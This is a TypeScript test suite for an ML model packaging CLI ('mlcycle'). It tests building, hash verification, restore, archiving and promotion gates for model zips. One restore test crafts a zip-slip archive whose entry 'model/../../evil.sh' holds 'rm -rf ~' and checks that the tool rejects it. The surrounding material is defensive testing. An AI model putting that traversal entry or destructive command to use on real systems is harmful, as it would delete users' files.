    const busy = path.join(parent, 'busy');
    writeFile(path.join(busy, 'keep.txt'), 'mine');
    await assert.rejects(restorePackage(built.path, busy), /is not empty/);
    assert.deepEqual(list(busy), ['keep.txt']);
    const empty = path.join(parent, 'empty');
    fs.mkdirSync(empty);
    await restorePackage(built.path, empty);
    assert.ok(fs.existsSync(path.join(empty, 'model', 'model.pkl')));
    await assert.rejects(restorePackage(built.path, path.join(parent, 'other'), { expect: { model: 'churn', version: 2 } }), /holds churn v1, not churn v2/);
    assert.deepEqual(fs.readdirSync(parent).sort(), ['busy', 'empty']);
  });

  it('the promotion gate "package built and verified" holds only while a verified zip keeps its hash', async () => {
    const f = await fixture({ git: false });
    writeFile(f.registry.policyFile, 'staging:\n  package_verified: true\n');
    await assert.rejects(f.registry.setStage({ model: 'churn', version: 1, stage: 'staging' }), (err: Error) => err instanceof GateRefusal && /no verified package for v1/.test(err.message));
    const built = await f.packages.build('churn', 1);
    assert.equal(f.packages.isVerified('churn', 1), false); // built, not yet verified
    await f.packages.verify(built.path);
    assert.equal(f.packages.isVerified('churn', 1), true);
    // Tampered after verification: the gate sees it.
    const bytes = fs.readFileSync(built.path);
    const at = bytes.length - 30;
    bytes.writeUInt8(bytes.readUInt8(at) ^ 0xff, at);
    fs.writeFileSync(built.path, bytes);
    assert.equal(f.packages.isVerified('churn', 1), false);
    await assert.rejects(f.registry.setStage({ model: 'churn', version: 1, stage: 'staging' }), GateRefusal);
    const again = await f.packages.build('churn', 1);
    await f.packages.verify(again.path);
    const moved = await f.registry.setStage({ model: 'churn', version: 1, stage: 'staging' });
    assert.deepEqual(moved.gates, [{ gate: 'package built and verified', ok: true, detail: 'a verified package exists' }]);
  });

  it('archiving keeps a verified package; the version restores after its run, its files and the database are gone', async () => {
    const f = await fixture({ git: false });
    await assert.rejects(f.packages.archive('churn', 9), /churn has no version 9/);
    const r = await f.packages.archive('churn', 1, { reason: 'kept for the audit' });
    assert.equal(r.version.stage, 'archived');
    assert.equal(r.built, true);
    assert.equal(r.package.file, f.packages.defaultPath('churn', 1));
    assert.ok(r.package.verifiedAt);
    assert.equal(f.packages.isVerified('churn', 1), true);
    await assert.rejects(f.packages.archive('churn', 1), /already in archived/); // refused before any build

    // Years later: the run, the workspace files and even the database are gone.
    fs.rmSync(path.join(f.folder, 'mlruns'), { recursive: true });
    fs.rmSync(path.join(f.folder, 'serve'), { recursive: true });
    f.ws.close();
    open.splice(open.indexOf(f.ws), 1);
    for (const n of fs.readdirSync(path.join(f.folder, '.mlcycle'))) if (n.startsWith('mlcycle.db')) fs.rmSync(path.join(f.folder, '.mlcycle', n), { recursive: true });
    const ws = await Workspace.open(f.folder, { git: false });
    open.push(ws);
    await ws.ingestor.scan();
    const packages = new Packages(ws.registry());
    assert.equal(ws.registry().model('churn')!.versions[0]!.stage, 'archived'); // the journal rebuilt the registry
    const dir = path.join(tempDir(), 'v1');
    const restored = await packages.restoreVersion('churn', 1, dir);
    assert.deepEqual([restored.built, restored.package], [false, f.packages.defaultPath('churn', 1)]);
    assert.deepEqual(fs.readFileSync(path.join(dir, 'model', 'model.pkl')), fakeSklearnPickle());
    assert.ok(fs.existsSync(path.join(dir, 'serve', 'app.py')));
  });

  it('restoring a version with no package builds one from the object store first', async () => {
    const f = await fixture({ git: false });
    const dir = path.join(tempDir(), 'v1');
    const r = await f.packages.restoreVersion('churn', 1, dir);
    assert.deepEqual([r.built, r.package, r.manifest.version], [true, f.packages.defaultPath('churn', 1), 1]);
    assert.deepEqual(fs.readFileSync(path.join(dir, 'model', 'model.pkl')), fakeSklearnPickle());
  });

  it('hashes files by streaming, and the CRC-32 engine swapped into yazl gives the same results', async () => {
    const file = path.join(tempDir(), 'big.bin');
    const data = randomBytes(9 * 1024 * 1024 + 17); // more than one 8 MiB chunk
    fs.writeFileSync(file, data);
    assert.deepEqual(await sha256File(file), { sha256: sha(data), size: data.length });
    assert.deepEqual(sha256FileSync(file), { sha256: sha(data), size: data.length });
    const chunks = [randomBytes(1000), randomBytes(65536), Buffer.alloc(0), randomBytes(3)];
    let ours = 0;
    for (const c of chunks) ours = crc32.unsigned(c, ours);
    assert.equal(ours, zlib.crc32(Buffer.concat(chunks)));
    assert.equal(crc32.unsigned(Buffer.from('123456789')), 0xcbf43926); // the CRC-32 check value
    // yazl loads the very module object that was patched.
    assert.equal(require.resolve('buffer-crc32', { paths: [path.dirname(require.resolve('yazl'))] }), require.resolve('buffer-crc32'));
  });

  it('refuses to package an unknown version, or a version whose stored files are gone', async () => {
    const f = await fixture({ git: false });
    await assert.rejects(buildPackage(f.registry, 'nope', 1), /no model named nope/);
    await assert.rejects(buildPackage(f.registry, 'churn', 4), /churn has no version 4 \(it has v1\)/);
    const v = f.registry.model('churn')!.versions[0]!;
    const stored = f.ws.store.read((db) => db.exec('SELECT sha256 FROM version_files WHERE path = ?', ['model.pkl'])[0]!.values[0]![0] as string);
    fs.rmSync(f.registry.objects.pathOf(stored), { force: true });
    await assert.rejects(buildPackage(f.registry, 'churn', v.version), /the object store lost model\.pkl of churn v1/);
  });

  it('a really full file system (a 1 MiB tmpfs; else a file size limit) under `mlcycle package --out` fails with exit 1, leaving nothing under the final name', async function () {
    const f = await fixture({ git: false, register: false });
    writeFile(path.join(f.modelDir, 'weights.bin'), randomBytes(3 * 1024 * 1024));
    await f.registry.register({ model: 'churn', path: f.modelDir });
    f.ws.close();
    open.splice(open.indexOf(f.ws), 1);
    const small = path.join(tempDir(), 'small-disk');
    fs.mkdirSync(small);
    const out = path.join(small, 'churn-v1.zip');
    const q = (x: string): string => `'${x.replace(/'/g, `'\\''`)}'`;
    const cmd = [process.execPath, '-r', require.resolve('tsx/cjs'), CLI_BIN, 'package', 'churn', '1', '--out', out].map(q).join(' ');
    const report = `echo "exit=$?"; echo "left:$(ls -A ${q(small)} | tr '\\n' ' ')"`;
    // A real file system that fills up: a 1 MiB tmpfs mounted in a private mount namespace (only
    // this shell and the CLI see it). Where namespaces are not allowed (some containers), the
    // kernel's file size limit refuses the writes instead (EFBIG): a real failing write too.
    let r = spawnSync('unshare', ['-rm', 'sh', '-c', `mount -t tmpfs -o size=1m mlcycle-full ${q(small)} || exit 99; ${cmd}; ${report}`], { cwd: f.folder, encoding: 'utf8' });
    let how = 'a 1 MiB tmpfs';
    if (r.error || r.status === 99) {
      how = 'ulimit -f 1024 (no mount namespace here)';
      console.log(`      note: ${how}: ${(r.error?.message ?? r.stderr).trim().split('\n').pop()}`);
      r = spawnSync('sh', ['-c', `ulimit -f 1024 && ${cmd}; ${report}`], { cwd: f.folder, encoding: 'utf8' });
    }
    assert.match(r.stdout, /^exit=1$/m, `${how}: ${r.stdout}\n${r.stderr}`);
    assert.match(r.stderr, /mlcycle package: (ENOSPC: no space left on device|EFBIG: file too large), write: no room to write it; nothing was left under the final name/, r.stderr);
    assert.doesNotMatch(r.stderr, /\n\s+at /, 'a stack trace instead of a message');
    assert.match(r.stdout, /^left:\s*$/m, `${how}: something was left behind: ${r.stdout}`); // no churn-v1.zip, no .partial file
    const io = capture(f.folder);
    assert.equal(await main(['packages', '--json'], io), 0, io.text());
    assert.deepEqual(JSON.parse(io.stdout.join('')), []); // nothing recorded
  });

  describe('the mlcycle CLI: package, verify, restore, archive', () => {
    /** The fixture with its workspace closed: the CLI opens its own, as a terminal would. */
    const cliFixture = async (): Promise<Fixture> => {
      const f = await fixture({ git: false });
      f.ws.close();
      open.splice(open.indexOf(f.ws), 1);
      return f;
    };
    const run = async (cwd: string, args: string[]): Promise<{ code: number; io: ReturnType<typeof capture> }> => {
      const io = capture(cwd);
      return { code: await main(args, io), io };
    };

    it('package NAME VERSION builds and verifies; --out, --json; a glob matching nothing is exit 1 naming it, a warning with --allow-missing-resources', async () => {
      const f = await cliFixture();
      const a = await run(f.folder, ['package', 'churn', '1']);
      assert.equal(a.code, 0, a.io.text());
      assert.match(a.io.stdout[0]!, /^Built churn v1: \.mlcycle\/packages\/churn\/v1\/churn-v1\.zip \(7 files, .*, sha256 [0-9a-f]{12}\) in \d+\.\d s, verified$/);
      assert.ok(a.io.stdout.includes('  MLflow model in model/ (MLmodel generated: python_function, sklearn)'), a.io.text());
      assert.ok(a.io.stdout.includes('  environment: model/conda.yaml, model/requirements.txt'), a.io.text());
      const list = await run(f.folder, ['packages', '--json']);
      const rows = JSON.parse(list.io.stdout.join('')) as { model: string; version: number; verifiedAt: string | null; present: boolean }[];
      assert.deepEqual(rows.map((r) => [r.model, r.version, r.verifiedAt !== null, r.present]), [['churn', 1, true, true]]);

      const elsewhere = path.join(tempDir(), 'out', 'churn.zip');
      const b = await run(f.folder, ['package', 'churn', 'v1', '--out', elsewhere, '--resource', 'config/*.yaml', '--json']);
      assert.equal(b.code, 0, b.io.text());
      const json = JSON.parse(b.io.stdout.join('')) as { path: string; sha256: string; size: number; verified: boolean; manifest: Manifest };
      assert.deepEqual([json.path, json.verified, json.size, json.sha256], [elsewhere, true, fs.statSync(elsewhere).size, (await sha256File(elsewhere)).sha256]);
      assert.ok(json.manifest.files.some((x) => x.path === 'config/serving.yaml'));

      writeFile(path.join(f.folder, 'mlcycle.yaml'), 'models:\n  churn:\n    resources: ["serve/*.py", "inference/*.py"]\n');
      const c = await run(f.folder, ['package', 'churn', '1', '--out', path.join(tempDir(), 'c.zip')]);
      assert.equal(c.code, 1);
      assert.deepEqual(c.io.stderr, ['mlcycle package: resource glob "inference/*.py" (declared in mlcycle.yaml for churn) matches no file: fix the glob, add the file, or build with --allow-missing-resources']);
      const d = await run(f.folder, ['package', 'churn', '1', '--allow-missing-resources', '--out', path.join(tempDir(), 'd.zip')]);
      assert.equal(d.code, 0, d.io.text());
      assert.ok(d.io.stderr.includes('warning: resource glob "inference/*.py" (declared in mlcycle.yaml for churn) matches no file'), d.io.text());

      for (const [args, message] of [
        [['package', 'churn'], /package needs NAME and VERSION/],
        [['package', 'churn', '1', '--bogus'], /Unknown option '--bogus'/],
      ] as const) {
        const r = await run(f.folder, [...args]);
        assert.equal(r.code, 2, r.io.text());
        assert.match(r.io.stderr.join('\n'), message);
        assert.match(r.io.stderr.join('\n'), /mlcycle package NAME VERSION \[--out FILE\]/);
      }
      const unknown = await run(f.folder, ['package', 'churn', '7']);
      assert.deepEqual([unknown.code, unknown.io.stderr], [1, ['mlcycle package: churn has no version 7 (it has v1)']]);
    });

    it('verify PACKAGE: exit 0 when every hash matches; exit 1 naming each missing, extra and altered file; --json', async () => {
      const f = await cliFixture();
      assert.equal((await run(f.folder, ['package', 'churn', '1', '--no-verify'])).code, 0);
      const zip = f.packages.defaultPath('churn', 1);
      const ok = await run(tempDir(), ['verify', zip]);
      assert.equal(ok.code, 0, ok.io.text());
      assert.match(ok.io.stdout[0]!, /: churn v1, 7 files, .*: every sha256 matches manifest\.json/);
      // The store next to the package heard of the verification (the promotion gate reads it).
      const listed = await run(f.folder, ['packages', '--json']);
      assert.ok((JSON.parse(listed.io.stdout.join('')) as { verifiedAt: string | null }[])[0]!.verifiedAt);

      const files = await readZip(zip);
      files.set('serve/app.py', Buffer.from('import os\n'));
      files.delete('Dockerfile');
      files.set('serve/backdoor.py', Buffer.from('x'));
      const bad = path.join(tempDir(), 'tampered.zip');
      await writeZip(bad, files);
      const r = await run(tempDir(), ['verify', bad]);
      assert.equal(r.code, 1);
      assert.deepEqual(r.io.stderr.join('\n').split('\n'), [
        `mlcycle verify: ${bad} does not match its manifest:`,
        '  ✗ missing  Dockerfile (listed in the manifest, not in the zip)',
        '  ✗ extra    serve/backdoor.py (in the zip, not in the manifest)',
        `  ✗ altered  serve/app.py: 10 bytes, sha256 ${sha('import os\n')}; the manifest says 29 bytes, sha256 ${sha('def predict(x):\n    return x\n')}`,
      ]);
      const j = await run(tempDir(), ['verify', bad, '--json']);
      assert.equal(j.code, 1);
      const result = JSON.parse(j.io.stdout.join('')) as { ok: boolean; missing: string[]; extra: string[]; altered: { path: string }[] };
      assert.deepEqual([result.ok, result.missing, result.extra, result.altered.map((a) => a.path)], [false, ['Dockerfile'], ['serve/backdoor.py'], ['serve/app.py']]);
      const none = await run(tempDir(), ['verify', 'nowhere.zip']);
      assert.deepEqual([none.code, none.io.stderr.length], [1, 1]);
      assert.match(none.io.stderr[0]!, /no such package: .*nowhere\.zip/);
      assert.equal((await run(tempDir(), ['verify'])).code, 2);
    });

    it('restore PACKAGE DIR checks every hash; an unsafe zip is exit 1 and leaves nothing; every command has --help', async () => {
      const f = await cliFixture();
      assert.equal((await run(f.folder, ['package', 'churn', '1'])).code, 0);
      const parent = tempDir();
      const r = await run(parent, ['restore', f.packages.defaultPath('churn', 1), 'deploy']);
      assert.equal(r.code, 0, r.io.text());
      assert.match(r.io.stdout[0]!, /^Restored churn v1 into .*deploy: 8 files, .*, every sha256 checked \(from .*churn-v1\.zip\)$/);
      assert.deepEqual(fs.readFileSync(path.join(parent, 'deploy', 'model', 'model.pkl')), fakeSklearnPickle());
      const again = await run(parent, ['restore', f.packages.defaultPath('churn', 1), 'deploy']);
      assert.equal(again.code, 1);
      assert.match(again.io.stderr[0]!, /is not empty/);

      const evil = path.join(parent, 'evil.zip');
      fs.writeFileSync(evil, craftZip([{ name: 'model/../../evil.sh', data: 'rm -rf ~' }, { name: MANIFEST_NAME, data: '{}' }]));
      const e = await run(parent, ['restore', evil, 'out']);
      assert.equal(e.code, 1);
      assert.match(e.io.stderr.join('\n'), /entry "model\/\.\.\/\.\.\/evil\.sh" escapes the folder/);
      assert.deepEqual(fs.readdirSync(parent).sort(), ['deploy', 'evil.zip']);
      assert.equal((await run(parent, ['restore', evil])).code, 2);

      for (const command of ['package', 'verify', 'restore', 'archive', 'packages']) {
        const h = await run(parent, [command, '--help']);
        assert.equal(h.code, 0, command);
        assert.match(h.io.stdout.join('\n'), new RegExp(`^mlcycle ${command} `), command);
      }
      const help = await run(parent, ['restore', '--help']);
      assert.match(help.io.stdout.join('\n'), /mlcycle restore NAME VERSION DIR/);
    });

    it('archive keeps a verified package; once the run, the workspace files and the database are gone, `restore NAME VERSION DIR` brings the version back in one command', async () => {
      const f = await cliFixture();
      const a = await run(f.folder, ['archive', 'churn', '1', '--reason', 'kept for the audit']);
      assert.equal(a.code, 0, a.io.text());
      assert.deepEqual(a.io.stdout.slice(0, 1), ['churn v1 → archived (kept for the audit)']);
      assert.ok(a.io.stdout.some((l) => /^ {2}package built and verified: \.mlcycle\/packages\/churn\/v1\/churn-v1\.zip \(.*, sha256 [0-9a-f]{12}\)$/.test(l)), a.io.text());
      assert.ok(a.io.stdout.includes('  restore it any time with: mlcycle restore churn 1 DIR'), a.io.text());

      // Years later: no run, no resources, no database; only .mlcycle/ (objects, journal, packages).
      fs.rmSync(path.join(f.folder, 'mlruns'), { recursive: true });
      fs.rmSync(path.join(f.folder, 'serve'), { recursive: true });
      for (const n of fs.readdirSync(path.join(f.folder, '.mlcycle'))) if (n.startsWith('mlcycle.db')) fs.rmSync(path.join(f.folder, '.mlcycle', n), { recursive: true });
      const dir = path.join(tempDir(), 'old-churn');
      const r = await run(f.folder, ['restore', 'churn', 'v1', dir, '--json']);
      assert.equal(r.code, 0, r.io.text());
      const json = JSON.parse(r.io.stdout.join('')) as { dir: string; model: string; version: number; files: number; package: string; built: boolean };
      assert.deepEqual([json.dir, json.model, json.version, json.files, json.package, json.built], [dir, 'churn', 1, 8, f.packages.defaultPath('churn', 1), false]);
      assert.deepEqual(fs.readFileSync(path.join(dir, 'model', 'model.pkl')), fakeSklearnPickle());
      assert.equal(fs.readFileSync(path.join(dir, 'serve', 'app.py'), 'utf8'), 'def predict(x):\n    return x\n');
      const missing = await run(f.folder, ['restore', 'churn', '2', path.join(tempDir(), 'x')]);
      assert.deepEqual([missing.code, missing.io.stderr], [1, ['mlcycle restore: churn has no version 2 (it has v1)']]);
    });
  });

  describe('end to end: a scikit-learn model trained by Python', () => {
    before(function () {
      const probe = spawnSync(PYTHON, ['-c', 'import sklearn, joblib, numpy, yaml'], { encoding: 'utf8' });
      if (probe.status !== 0) {
        const why = `${PYTHON} cannot import sklearn, joblib, numpy and yaml (apt-get install python3-sklearn python3-yaml; .ci/run does): ${(probe.stderr || probe.error?.message || '').trim().split('\n').pop()}`;
        // CI installs them and sets MLCYCLE_REQUIRE_SKLEARN=1: there a missing scikit-learn is a failure, never a skip.
        if (process.env['MLCYCLE_REQUIRE_SKLEARN'] === '1') throw new Error(`MLCYCLE_REQUIRE_SKLEARN=1 but ${why}`);
        console.log(`      skipped: ${why}`);
        this.skip();
      }
    });

    it('is registered, packaged, verified and restored with the mlcycle CLI into a fresh folder, and predicts the same numbers', async function () {
      this.timeout(300_000);
      const folder = tempDir();
      const trained = spawnSync(PYTHON, [path.join(PY_HELPERS, 'train_sklearn.py'), folder], { encoding: 'utf8' });
      assert.equal(trained.status, 0, trained.stderr);
      const original = JSON.parse(trained.stdout) as { sklearn: string; predictions: Record<'forest' | 'ridge', number[]> };
      const cases = [
        { model: 'forest', file: 'model.pkl', flavors: ['python_function', 'sklearn'] },
        { model: 'ridge', file: 'model.joblib', flavors: ['python_function'] },
      ] as const;
      for (const c of cases) {
        // Each step is the `mlcycle` executable in its own process, as a user or CI job runs it.
        const step = (args: string[], cwd = folder): string => {
          const r = mlcycle(cwd, args);
          assert.equal(r.status, 0, `mlcycle ${args.join(' ')}: exit ${r.status}\n${r.stdout}\n${r.stderr}`);
          return r.stdout;
        };
        const v = JSON.parse(step(['register', c.model, `experiments/${c.model}/${c.file}`, '--json'])) as { version: number; run: { id: string } | null };
        assert.deepEqual([v.version, v.run?.id], [1, '.']); // the plain adapter's run: the folder the script wrote
        const built = JSON.parse(step(['package', c.model, '1', '--json'])) as { path: string; sha256: string; verified: boolean; manifest: Manifest };
        assert.equal(built.verified, true);
        assert.equal(built.path, path.join(folder, '.mlcycle', 'packages', c.model, 'v1', `${c.model}-v1.zip`));
        assert.deepEqual(built.manifest.mlflow.flavors, c.flavors);
        assert.deepEqual(built.manifest.environment, ['model/python_env.yaml', 'model/requirements.txt']);
        assert.deepEqual(built.manifest.warnings, []);
        assert.ok((built.manifest.metrics['r2']!.last as number) > 0.5);
        // Verified again as a separate step, from elsewhere, by the zip alone.
        assert.match(step(['verify', built.path], tempDir()), new RegExp(`: ${c.model} v1, \\d+ files, .*: every sha256 matches manifest\\.json`));
        // A fresh folder elsewhere, as a deployment machine would have: only the zip travels.
        const deploy = tempDir('mlcycle-deploy-');
        const zip = path.join(deploy, `${c.model}-v1.zip`);
        fs.copyFileSync(built.path, zip);
        const restored = JSON.parse(step(['restore', zip, c.model, '--json'], deploy)) as { dir: string; files: number };
        const dir = path.join(deploy, c.model);
        assert.equal(restored.dir, dir);
        const mlmodel = fs.readFileSync(path.join(dir, 'model', 'MLmodel'), 'utf8');
        assert.match(mlmodel, new RegExp(`sklearn_version: ${original.sklearn.replace(/\./g, '\\.')}|loader_module: mlcycle_joblib_loader`));
        for (const flavor of c.flavors) {
          const loaded = spawnSync(PYTHON, [path.join(PY_HELPERS, 'load_pyfunc.py'), path.join(dir, 'model'), path.join(folder, 'probe.json'), '--flavor', flavor], { encoding: 'utf8' });
          assert.equal(loaded.status, 0, loaded.stderr);
          const predicted = JSON.parse(loaded.stdout) as number[];
          assert.equal(predicted.length, 12);
          assert.deepEqual(predicted, original.predictions[c.model], `${c.model} (${flavor}) predicts other numbers after the round trip`);
        }
      }
      // The two models really differ: the comparison would catch a swapped file.
      assert.notDeepEqual(original.predictions.forest, original.predictions.ridge);
    });
  });
});
